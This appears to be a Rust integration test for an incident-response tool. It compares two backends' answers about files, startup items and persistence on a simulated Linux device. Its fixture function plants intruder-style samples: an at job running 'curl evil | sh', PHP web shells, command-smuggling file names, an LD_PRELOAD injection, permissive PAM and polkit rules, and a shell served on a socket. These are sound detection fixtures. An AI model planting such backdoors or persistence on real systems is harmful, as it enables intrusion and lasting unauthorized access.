//! The same questions to both backends: this host's own, run inside a simulated Defender device, and the tenant's script
//! pack on that device. What they answer is the same, field by field, but for what is named here with a reason.

mod support;

use serde_json::{Map, Value, json};
use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::Command;
use support::defender::Simulator;
use support::{Home, tools};

/// A device of a tenant whose files the test can reach, with this program inside.
struct Device {
    home: Home,
    tenant: Simulator,
    name: String,
    pid: String,
}

impl Device {
    /// `None` where no namespaces can be made, and said.
    fn start() -> Option<Device> {
        if !tools::root() || !tools::have("nsenter") || !tools::have("unshare") {
            return None;
        }
        let tenant = Simulator::start(&["--devices", "2", "--platforms", "linux"]);
        let name = tenant.device("linux").1;
        let mut device = Device { home: Home::new(), tenant, name, pid: String::new() };
        let synced = device.run(&["library", "sync"]).output().expect("the program");
        assert!(synced.status.success(), "{}", String::from_utf8_lossy(&synced.stderr));
        // Its root is made when something runs there.
        device.asked_remotely("dir", &json!({ "path": "/" }));
        let told = device.tenant.devices().into_iter().find(|d| d["name"] == device.name.as_str()).expect("the device");
        device.pid = told["pid"].to_string();
        let program = device.path("/opt/live-response");
        fs::copy(env!("CARGO_BIN_EXE_live-response"), &program).expect("a copy of the program");
        Some(device)
    }

    fn run(&self, arguments: &[&str]) -> Command {
        let mut command = self.home.command(arguments);
        command.env("LIVE_RESPONSE_CONFIG", self.tenant.config());
        command
    }

    /// Where a path of the device is for the test.
    fn path(&self, path: &str) -> PathBuf {
        PathBuf::from(format!("/proc/{}/root{path}", self.pid))
    }

    fn write(&self, path: &str, mode: u32, content: impl AsRef<[u8]>) {
        let path = self.path(path);
        fs::create_dir_all(path.parent().expect("a folder")).expect("a folder");
        fs::write(&path, content).expect("a file");
        fs::set_permissions(&path, fs::Permissions::from_mode(mode)).expect("a mode");
    }

    fn link(&self, target: &str, path: &str) {
        let path = self.path(path);
        fs::create_dir_all(path.parent().expect("a folder")).expect("a folder");
        symlink(target, path).expect("a link");
    }

    fn asked_remotely(&self, tool: &str, arguments: &Value) -> Value {
        answer(&mut self.run(&["call", tool, &arguments.to_string(), "--device", &self.name]))
    }

    fn asked_inside(&self, tool: &str, arguments: &Value) -> Value {
        let mut command = Command::new("nsenter");
        command
            .args(["--target", &self.pid, "--mount", "--pid", "--net", "--uts", "--ipc", "--root", "--wd", "--"])
            .args(["/usr/bin/env", "-i", "PATH=/usr/sbin:/usr/bin:/sbin:/bin", "LIVE_RESPONSE_HOME=/opt/home"])
            .args(["/opt/live-response", "call", tool, &arguments.to_string()]);
        answer(&mut command)
    }

    /// Both answers: the pack's, then the local one's.
    fn both(&self, tool: &str, arguments: &Value) -> (Value, Value) {
        (self.asked_remotely(tool, arguments), self.asked_inside(tool, arguments))
    }

    /// Compares all rows, which a key of these fields tells apart.
    #[track_caller]
    fn compare(&self, tool: &str, arguments: Value, key: &[&str], but: &Differs) -> usize {
        let mut arguments = arguments;
        arguments["limit"] = json!(1000);
        let (pack, local) = self.both(tool, &arguments);
        assert_eq!(pack["data"].get("next_cursor"), None, "{tool} has more rows than are compared");
        let (pack, local) = (keyed(&pack, key, but), keyed(&local, key, but));
        let mut odd = String::new();
        for name in pack.keys().chain(local.keys()).collect::<std::collections::BTreeSet<_>>() {
            let (ours, theirs) = (pack.get(name), local.get(name));
            if ours != theirs {
                odd += &format!("\n{name}\n  pack  {}\n  local {}", shown(ours), shown(theirs));
            }
        }
        assert!(odd.is_empty(), "{tool} {arguments}: rows differ:{odd}");
        pack.len()
    }
}

fn answer(command: &mut Command) -> Value {
    let output = command.output().expect("the program");
    serde_json::from_slice(&output.stdout).unwrap_or_else(|e| {
        panic!("{e}: {} {}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr))
    })
}

fn shown(row: Option<&Map<String, Value>>) -> String {
    row.map_or_else(|| "has no such row".to_owned(), |row| Value::Object(row.clone()).to_string())
}

/// What the two need not agree on.
struct Differs {
    /// Fields, each with the reason.
    fields: &'static [(&'static str, &'static str)],
    /// Rows that are about the look itself.
    rows: fn(&Value) -> bool,
}

const NOTHING: Differs = Differs { fields: &[], rows: |_| false };

fn keyed(answer: &Value, key: &[&str], but: &Differs) -> BTreeMap<String, Map<String, Value>> {
    let rows = answer["data"]["rows"].as_array().unwrap_or_else(|| panic!("no rows: {answer}"));
    let mut keyed = BTreeMap::new();
    for row in rows.iter().filter(|row| !(but.rows)(row)) {
        let mut name = key.iter().map(|field| row[*field].to_string()).collect::<Vec<_>>().join(" ");
        while keyed.contains_key(&name) {
            name.push('+');
        }
        let mut row = row.as_object().expect("an object").clone();
        row.retain(|field, value| !value.is_null() && !but.fields.iter().any(|(name, _)| name == field));
        keyed.insert(name, row);
    }
    keyed
}

/// The program and the script that look, and what they start.
fn is_looking(row: &Value) -> bool {
    let text = row.to_string();
    text.contains("/opt/live-response") || text.contains("/mdatp/downloads/.run-")
}

const DIR: Differs = Differs { fields: &[("accessed", "reading changes it")], rows: is_looking };

/// What an administrator, a user and an intruder leave, of every kind.
fn plant(device: &Device) {
    device.write("/srv/tree/plain.txt", 0o644, "plain");
    device.write("/srv/tree/with blank", 0o4755, "x");
    device.write("/srv/tree/new\nline", 0o600, "x");
    device.write("/srv/tree/$(id > owned)", 0o644, "x");
    device.write("/srv/tree/-rf", 0o1777, "x");
    device.write("/srv/tree/\u{fc}ml\u{e4}ut \u{1f600}", 0o644, "x");
    device.write("/srv/tree/.hidden/deep.txt", 0o644, vec![7; 5000]);
    device.link("plain.txt", "/srv/tree/link");
    device.link("/nowhere/at all", "/srv/tree/dangling");
    // Units: an alias, a mask, a template in use, a drop-in, a link from elsewhere, lines that go on, a user's own.
    device.write("/etc/systemd/system/alpha.service", 0o644, "[Unit]\nDescription=Alpha of %n\n[Service]\nUser=deploy\nExecStart=-/bin/sh -c \\\n # no\n  'echo a'\nExecStart=/bin/true\n[Install]\nAlias=beta.service\n");
    device.link("alpha.service", "/etc/systemd/system/beta.service");
    device.link("/dev/null", "/etc/systemd/system/gone.service");
    device.write("/etc/systemd/system/empty.service", 0o644, "");
    device.write(
        "/etc/systemd/system/many@.service",
        0o644,
        "[Service]\nExecStart=\"/opt/my app/run\" %i %p\n[Install]\nWantedBy=x.target\n",
    );
    device.link("../many@.service", "/etc/systemd/system/multi-user.target.wants/many@one-two.service");
    device.write(
        "/etc/systemd/system/alpha.service.d/10-more.conf",
        0o644,
        "[Service]\nExecStart=\nExecStart=sleep 1\nEnvironment=LD_PRELOAD=/tmp/x.so\n",
    );
    device.write("/srv/units/elsewhere.service", 0o644, "[Service]\nExecStart=/bin/true\r\n");
    device.link("/srv/units/elsewhere.service", "/etc/systemd/system/elsewhere.service");
    device.write("/etc/systemd/system/also.service", 0o644, "[Service]\nExecStart=/x\n[Install]\nAlso=alpha.service\n");
    device.write("/etc/systemd/system/alpha.timer", 0o644, "[Timer]\nOnCalendar=hourly\nOnBootSec=5\n[Install]\n");
    device.write("/etc/systemd/system/other.timer", 0o644, "[Timer]\nOnCalendar=*-*-* 03:00\nUnit=absent.service\n");
    device.write("/etc/systemd/system/door.socket", 0o644, "[Socket]\nListenStream=4445\nAccept=yes\n");
    device.write("/etc/systemd/system/door@.service", 0o644, "[Service]\nExecStart=/bin/sh\n");
    device.write(
        "/home/mkeller/.config/systemd/user/sync.timer",
        0o644,
        "[Timer]\nOnUnitActiveSec=60\n[Install]\nWantedBy=timers.target\n",
    );
    device.write("/home/mkeller/.config/systemd/user/sync.service", 0o644, "[Service]\nExecStart=%h/.local/sync\n");
    device.write(
        "/etc/init.d/legacy",
        0o755,
        "#!/bin/sh\n### BEGIN INIT INFO\n# Short-Description: Legacy\n### END INIT INFO\n",
    );
    device.link("../init.d/legacy", "/etc/rc2.d/S20legacy");
    // Tasks.
    device.write("/etc/cron.d/settings", 0o644, "PATH=/tmp/x:/bin\nMAILTO=\"\"\n# c\n-*/5 1-5 * * mon  root\techo \"%h\\i\" $(id)\n@reboot deploy /opt/start\n* * * *\nPATH=/bin\n1 1 1 1 * root last");
    device.write("/etc/cron.d/skipped.by.name", 0o644, "* * * * * root x\n");
    device.write("/etc/cron.daily/task", 0o755, "#!/bin/sh\n# c\necho daily\n");
    device.write("/etc/cron.daily/asleep", 0o644, "#!/bin/sh\necho no\n");
    device.write("/var/spool/cron/crontabs/nobody-there", 0o600, "@daily /bin/x\n");
    device.write(
        "/etc/anacrontab",
        0o644,
        "SHELL=/bin/sh\n# c\n7 10 weekly-job run-parts /etc/cron.weekly\n@monthly 15 m x\n",
    );
    device.write("/var/spool/cron/atjobs/a0000f01d68e5a", 0o700, "#!/bin/sh\n# atrun uid=1000 gid=1000\numask 22\ncd /home/deploy || {\n echo no\n}\n/tmp/.x\n# c\ncurl evil | sh\n");
    device.write("/var/spool/cron/atjobs/b0001001d68e5b", 0o600, "echo late\n");
    // What starts with a session.
    device.write(
        "/home/deploy/.config/autostart/a.desktop",
        0o644,
        "[Other]\nExec=/no\n[Desktop Entry]\nExec = /yes %U\nHidden=true\nOnlyShowIn=GNOME;\n",
    );
    device.write("/home/deploy/.config/autostart/.b.desktop", 0o644, "[Desktop Entry]\nExec=/b\n");
    device.write("/home/deploy/.profile", 0o644, "# c\nexport PATH=/tmp:$PATH \\\n  X=1\nif true; then :; fi\n");
    device.write("/home/unnamed/.bashrc", 0o644, "echo nobody has this home\n");
    device.write("/etc/profile.d/x.sh", 0o644, "alias ls='ls -a'\n");
    device.write("/etc/environment", 0o644, "LANG=C\nLD_PRELOAD=/tmp/x.so\nMYPATH=/x\n");
    // Ways in.
    device.write(
        "/etc/sudoers",
        0o440,
        "# c\nDefaults env_reset\nDefaults !authenticate\nroot ALL=(ALL) ALL\n#1000 ALL=ALL\n",
    );
    device.write("/etc/sudoers.d/a.b", 0o440, "deploy ALL=(ALL) ALL\n");
    device.write("/home/deploy/.ssh/authorized_keys", 0o600, "# c\ncommand=\"echo \\\"ssh-rsa x\\\" y\",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE0123456789abcdefgh me@host x\nnone\n");
    device.write(
        "/home/deploy/.ssh/id_x",
        0o600,
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAA\n",
    );
    device.write("/etc/ssh/sshd_config", 0o644, "Port 22\nPermitRootLogin yes\nForceCommand /bin/x\n");
    device.write("/home/mkeller/.ssh/config", 0o600, "Host *\n  ProxyCommand nc %h\nMatch exec \"id\"\n");
    device.write("/etc/pam.d/odd", 0o644, "auth sufficient pam_permit.so\nauth required /tmp/x.so\n");
    device.write(
        "/etc/polkit-1/rules.d/1.rules",
        0o644,
        "// c\npolkit.addRule(function() { return polkit.Result.YES; });\n",
    );
    // Hooks.
    device.write("/etc/udev/rules.d/9.rules", 0o644, "ACTION==\"add\", RUN += \"/tmp/x\"\nKERNEL==\"y\"\n");
    device.write("/etc/update-motd.d/9", 0o644, "#!/bin/sh\necho\n");
    device.write("/etc/modprobe.d/x.conf", 0o644, "install usb /tmp/x\noptions y z\n");
    device.write("/etc/apt/apt.conf.d/9", 0o644, "// c\nDPkg::Post-Invoke {\"/tmp/x\";};\nAPT::Z 1;\n");
    device.write("/etc/network/if-up.d/x", 0o755, "#!/bin/sh\n/tmp/x\n");
    device.write("/etc/network/interfaces", 0o644, "iface eth0 inet dhcp\n  post-up /tmp/x\n");
    device.write("/etc/logrotate.d/x", 0o644, "/var/log/x {\n postrotate\n  /tmp/x\n endscript\n}\n");
    device.write("/etc/rsyslog.d/x.conf", 0o644, "*.* ^/tmp/x\n*.* /var/log/y\n");
    device.write("/etc/aliases", 0o644, "root: |/tmp/x\nbin: root\n");
    device.write("/etc/inetd.conf", 0o644, "9 stream tcp nowait root /tmp/x x\n");
    device.write("/etc/sysctl.d/9.conf", 0o644, "kernel.core_pattern = |/tmp/x\nkernel.y = 1\n");
    device.write("/etc/default/grub", 0o644, "GRUB_CMDLINE_LINUX=\"quiet init=/tmp/x\"\n");
    device.write("/etc/rc.local", 0o644, "#!/bin/sh\n/tmp/x\n");
    device.write("/etc/dbus-1/system-services/x.service", 0o644, "[D-BUS Service]\nName=x\nExec=/tmp/x\nUser=root\n");
    device.write("/home/mkeller/.vimrc", 0o644, "\" c\nset nu\nautocmd BufRead * !id\n");
    device.write("/home/mkeller/.tmux.conf", 0o644, "set -g x y\nrun-shell /tmp/x\n");
    device.write("/home/mkeller/.gitconfig", 0o644, "[core]\n pager = less\n sshCommand = /tmp/x\n[alias]\n y = !id\n");
    device.write("/srv/repo/.git/hooks/post-merge", 0o755, "#!/bin/sh\n/tmp/x\n");
    device.write("/srv/repo/.git/config", 0o644, "[core]\n\tfsmonitor = /tmp/x\n");
    device.write("/opt/py/site-packages/x.pth", 0o644, "/opt\nimport os\n");
    device.write("/opt/rights", 0o4755, "#!/bin/sh\nid\n");
    device.write("/var/www/html/shell.php", 0o644, "<?php\n// eval(\n$c = curl_exec($x);\nsystem($_GET['c']);\n");
    device.write("/var/www/html/plain.php", 0o644, "<?php echo 1;\n");
    device.write("/var/www/html/picture.jpg", 0o644, "<?php eval($_POST[1]);\n");
    device.write("/etc/systemd/system-generators/x", 0o755, b"\x7fELF\0\0\0");
    device.write("/etc/containers/systemd/x.container", 0o644, "[Container]\nImage=evil\nExec=/x\n");
}

#[test]
fn both_backends_say_the_same_of_what_lies_on_the_device() {
    let Some(device) = Device::start() else { return };
    plant(&device);
    for path in ["/srv/tree", "/etc", "/", "/home/deploy/.ssh"] {
        device.compare("dir", json!({ "path": path, "full_path": true }), &["path"], &DIR);
    }
    for search in [
        json!({ "name": "*", "path": "/srv" }),
        json!({ "name": "*.txt", "path": "/srv/tree", "max_depth": 1 }),
        json!({ "name": "{plain,deep}.t?t", "path": "/srv", "min_size": 10 }),
        json!({ "name": "*", "path": "/etc", "modified_after": "2001-01-01T00:00:00Z", "max_size": 20 }),
    ] {
        let rows = device.compare("findfile", search, &["path"], &DIR);
        assert!(rows > 0);
    }
    for path in ["/srv/tree/with blank", "/srv/tree/link", "/etc/passwd", "/usr/bin/env", "/srv/tree/new\nline"] {
        let (pack, local) = device.both("fileinfo", &json!({ "path": path }));
        let (mut pack, mut local) = (pack["data"].clone(), local["data"].clone());
        assert!(pack["sha256"].is_string(), "{pack}");
        for (field, _reason) in [("accessed", "hashing changes it"), ("lsh", "no such program is on a device")] {
            for data in [&mut pack, &mut local] {
                data.as_object_mut().expect("data").remove(field);
            }
        }
        assert_eq!(without_nulls(&pack), without_nulls(&local), "{path}");
    }
    let errors = [
        ("dir", json!({ "path": "/absent" })),
        ("fileinfo", json!({ "path": "/srv/tree/dangling" })),
        ("fileinfo", json!({ "path": "/srv/tree" })),
        ("findfile", json!({ "path": "/absent", "name": "*" })),
        ("processes", json!({ "pid": 4_000_000 })),
        ("registry", json!({ "key": "HKLM" })),
        ("persistence", json!({ "technique": "no-such" })),
    ];
    for (tool, arguments) in errors {
        let (pack, local) = device.both(tool, &arguments);
        assert!(pack["error"]["code"].is_string(), "{pack}");
        assert_eq!(pack["error"]["code"], local["error"]["code"], "{tool} {arguments}: {pack} {local}");
    }
}

fn without_nulls(value: &Value) -> Value {
    match value {
        Value::Object(fields) => {
            fields.iter().filter(|(_, v)| !v.is_null()).map(|(k, v)| (k.clone(), without_nulls(v))).collect()
        }
        other => other.clone(),
    }
}

#[test]
fn both_backends_say_the_same_of_what_is_set_up_to_start() {
    let Some(device) = Device::start() else { return };
    plant(&device);
    let services = device.compare("services", json!({}), &["name"], &NOTHING);
    assert!(services > 10, "{services}");
    let tasks = Differs { fields: &[("next_run", "the scripts do not work it out")], rows: |_| false };
    assert!(device.compare("scheduledtasks", json!({}), &["name", "source"], &tasks) > 10);
    for name in ["cron.d/settings", "alpha*", "/etc/crontab"] {
        assert!(device.compare("scheduledtasks", json!({ "name": name }), &["name", "source"], &tasks) > 0);
    }
    assert!(device.compare("startupfolders", json!({}), &["file"], &NOTHING) > 5);
    device.compare("drivers", json!({}), &["name", "path"], &NOTHING);
}

#[test]
fn both_backends_say_the_same_of_what_runs() {
    let Some(device) = Device::start() else { return };
    let looks = Differs {
        fields: &[
            ("cpu_ms", "it goes on"),
            ("rss_bytes", "it goes on"),
            ("started", "each works out the time of the boot, to 10 ms"),
        ],
        rows: is_looking,
    };
    assert!(device.compare("processes", json!({}), &["pid"], &looks) >= 3);
    device.compare("processes", json!({ "tree": true }), &["pid"], &looks);
    assert_eq!(device.compare("processes", json!({ "name": "kdevtmp*" }), &["pid"], &looks), 1);
    let key = ["protocol", "local_address", "local_port", "remote_address", "remote_port", "netns"];
    if tools::have("perl") {
        assert!(device.compare("connections", json!({}), &key, &NOTHING) >= 1);
    }
}

#[test]
fn both_backends_say_the_same_of_what_comes_back() {
    let Some(device) = Device::start() else { return };
    plant(&device);
    let differs = Differs {
        fields: &[("note", "this program says more of what is odd: times that do not fit, kernel arguments")],
        rows: is_looking,
    };
    let rows = device.compare("persistence", json!({}), &["technique", "location", "name"], &differs);
    assert!(rows > 60, "{rows}");
    for wanted in [json!({ "technique": "T1053" }), json!({ "technique": "account", "user": "mkeller" })] {
        assert!(device.compare("persistence", wanted, &["technique", "location", "name"], &differs) > 0);
    }
}

#[test]
fn both_backends_name_the_same_file_to_those_who_analyze() {
    let Some(device) = Device::start() else { return };
    let path = Path::new("/var/tmp/.cache/kdevtmpfsi");
    let (pack, local) = device.both("analyze", &json!({ "type": "file", "id": path }));
    let digest = |answer: &Value| answer["data"]["report"]["file_hash"].clone();
    assert!(digest(&pack).is_string(), "{pack}");
    assert_eq!(digest(&pack), digest(&local), "{local}");
}
